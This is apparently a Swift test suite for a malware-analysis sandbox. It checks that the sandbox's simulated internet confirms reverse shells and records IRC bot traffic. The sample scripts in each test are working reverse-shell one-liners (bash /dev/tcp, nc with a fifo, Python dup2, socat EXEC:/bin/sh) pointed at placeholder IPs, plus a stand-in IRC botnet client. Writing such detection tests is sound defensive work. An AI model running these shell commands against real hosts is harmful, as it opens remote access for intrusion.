import Foundation
import Petri
import PetriModel
import Testing

/// C2 that answers (issue 16): real reverse shells run in the sandbox, the simulated internet types the
/// probe, and only a shell that ran it is confirmed. A client that connects and leaves, or one that
/// echoes the probe back, is not.
@Suite("network: reverse shells and bots in the sandbox", .serialized)
struct NetworkShellTests {
    /// Runs `script` as the sample with the simulated internet.
    static func analyze(_ tag: String, _ script: String) throws -> Report {
        let dir = TestPrograms.tempDir("shell-\(tag)")
        let sample = dir + "/\(tag).sh"
        try script.write(toFile: sample, atomically: true, encoding: .utf8)
        chmod(sample, 0o755)
        var o = Analysis.Options(profile: try Fixtures.profile())
        o.networkMode = "sinkhole"
        o.timeoutSeconds = 20
        o.artifactsDirectory = dir + "/art"
        o.reportPath = dir + "/report.json"
        let outcome = try Analysis.run(samplePath: sample, options: o)
        SchemaCheck.validate(outcome.reportPath)
        return outcome.report
    }

    static func tool(_ path: String, _ package: String) -> Bool {
        if FileManager.default.isExecutableFile(atPath: path) { return true }
        Issue.record("missing prerequisite: \(path) (apt-get install \(package))")
        return false
    }

    static func expectConfirmed(_ r: Report, sourceLocation: SourceLocation = #_sourceLocation) {
        let shell = r.network.other.first { $0.service == "shell" }
        #expect(shell != nil, "no confirmed shell: \(r.network.other.map { "\($0.service) \($0.lines)" })", sourceLocation: sourceLocation)
        #expect(shell?.lines.contains { $0.contains("uid=") } == true, "id ran", sourceLocation: sourceLocation)
        #expect(shell?.pid != nil, "attributed to a process of the run", sourceLocation: sourceLocation)
        let b = r.behaviours.first { $0.id == "network-shell-confirmed" }
        #expect(b != nil, "behaviours: \(r.behaviours.map(\.id))", sourceLocation: sourceLocation)
        #expect(b?.evidence.fields?["transcript"]?.contains("shell confirmed") == true, sourceLocation: sourceLocation)
        #expect(r.run.durationMs < 15_000, "the probe's exit ended the shell", sourceLocation: sourceLocation)
    }

    @Test("bash -i over /dev/tcp: the prompt is probed, the token comes back")
    func bashDevTcp() throws {
        let r = try Self.analyze("bash-i", "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")
        Self.expectConfirmed(r)
        #expect(r.network.other.first { $0.service == "shell" }?.lines.first?.contains("peer prompt") == true)
    }

    @Test("nc with a fifo: sh -i | nc > fifo")
    func ncFifo() throws {
        guard Self.tool("/usr/bin/nc", "netcat-openbsd") else { return }
        let r = try Self.analyze("nc-fifo", "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f\ncat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.8 9001 > /tmp/f\n")
        Self.expectConfirmed(r)
    }

    @Test("Python socket + dup2 + sh (no prompt: probed after the silence)")
    func pythonDup2() throws {
        let py = """
        #!/usr/bin/python3
        import os, socket, subprocess
        s = socket.socket(); s.connect(("198.51.100.9", 443))
        for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
        subprocess.call(["/bin/sh"])

        """
        let r = try Self.analyze("py-dup2", py)
        Self.expectConfirmed(r)
        #expect(r.network.other.first { $0.service == "shell" }?.lines.first?.contains("peer silent") == true)
    }

    @Test("socat exec:sh")
    func socatExec() throws {
        guard Self.tool("/usr/bin/socat", "socat") else { return }
        let r = try Self.analyze("socat", "#!/bin/sh\nsocat TCP:198.51.100.10:5555 EXEC:/bin/sh\n")
        Self.expectConfirmed(r)
    }

    @Test("benign: a client that connects and closes, and one that echoes the probe back, are not shells")
    func benignClients() throws {
        guard Self.tool("/usr/bin/socat", "socat") else { return }
        let r = try Self.analyze("benign", "#!/bin/bash\nexec 3<>/dev/tcp/198.51.100.7/4444; exec 3>&-\ntimeout 4 socat TCP:198.51.100.7:4445 EXEC:cat\n")
        #expect(r.network.connections.contains { $0.port == 4444 })
        let echo = r.network.other.first { $0.connection == r.network.connections.first { $0.port == 4445 }?.id }
        #expect(echo?.lines.first?.contains("not confirmed") == true, "the echo client got the probe: \(echo?.lines ?? [])")
        #expect(!r.network.other.contains { $0.service == "shell" })
        #expect(!r.behaviours.contains { $0.id == "network-shell-confirmed" })
    }

    @Test("an IRC bot: welcome, JOIN, one command, the bot's reply recorded")
    func ircBot() throws {
        let py = """
        #!/usr/bin/python3
        import socket
        s = socket.create_connection(("irc.botnet.example", 6667), timeout=10)
        s.sendall(b"NICK bot42\\r\\nUSER bot 0 * :bot\\r\\n")
        buf = b""
        while True:
            data = s.recv(4096)
            if not data: break
            buf += data
            while b"\\r\\n" in buf:
                line, buf = buf.split(b"\\r\\n", 1)
                if b" 376 " in line: s.sendall(b"JOIN #ops\\r\\n")
                if b"PRIVMSG #ops :\\x01VERSION\\x01" in line:
                    s.sendall(b"PRIVMSG #ops :\\x01VERSION petribot 1.0\\x01\\r\\nQUIT :bye\\r\\n")

        """
        let r = try Self.analyze("irc", py)
        let irc = try #require(r.network.other.first { $0.service == "irc" }, "\(r.network.other.map(\.service))")
        #expect(irc.lines.prefix(3) == ["NICK bot42", "USER bot 0 * :bot", "JOIN #ops"])
        #expect(irc.lines.contains("petri> :op!op@irc.example PRIVMSG #ops :\\x01VERSION\\x01"))
        #expect(irc.lines.contains("PRIVMSG #ops :\u{1}VERSION petribot 1.0\u{1}"), "the bot's reply: \(irc.lines)")
        #expect(r.network.dns.contains { $0.name == "irc.botnet.example" })
    }
}
